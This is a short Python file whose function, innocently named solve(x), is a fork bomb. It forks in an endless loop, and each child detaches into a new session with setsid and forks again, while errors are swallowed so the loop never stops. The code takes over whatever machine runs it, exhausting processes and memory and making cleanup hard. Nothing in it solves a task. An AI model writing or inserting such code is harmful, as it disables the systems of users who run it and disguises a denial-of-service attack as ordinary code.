"""Each fork leaves for a session of its own."""

import os

def solve(x):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
